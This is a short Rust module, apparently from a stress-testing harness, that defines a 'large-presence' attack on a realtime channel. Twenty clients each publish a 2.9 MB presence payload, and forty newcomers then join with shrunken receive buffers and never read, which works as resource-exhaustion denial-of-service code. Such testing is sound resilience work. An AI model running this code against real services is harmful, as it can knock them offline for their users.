//! A room whose members show 2.9 MB each, and newcomers who ask for that and do not read it.

use std::thread;
use std::time::Duration;

use serde_json::json;

use super::{Attack, repeat};

const ROOM: &str = "realtime:heavy";

pub const ATTACK: Attack = Attack {
    name: "large-presence",
    about: "20 members show 2.9 MB each, 40 newcomers do not read it",
    start: |target| {
        repeat(target, 20, |target, number| {
            let mut socket = target.open(number)?;
            let key = format!("member {number}");
            socket.join(ROOM, &json!({"presence": {"key": key, "enabled": true}}))?;
            let track =
                json!({"type": "presence", "event": "track", "payload": {"text": "x".repeat(2_900_000)}});
            socket.send(&json!(["1", "track", ROOM, "presence", track]))?;
            socket.discard_for(Duration::from_secs(20 + number as u64))?;
            Ok(())
        })?;
        repeat(target, 40, |target, number| {
            let mut socket = target.open(number)?;
            socket.shrink_receive_buffer()?;
            socket.join(ROOM, &json!({"presence": {"enabled": true}}))?;
            thread::sleep(Duration::from_secs(5));
            Ok(())
        })
    },
};
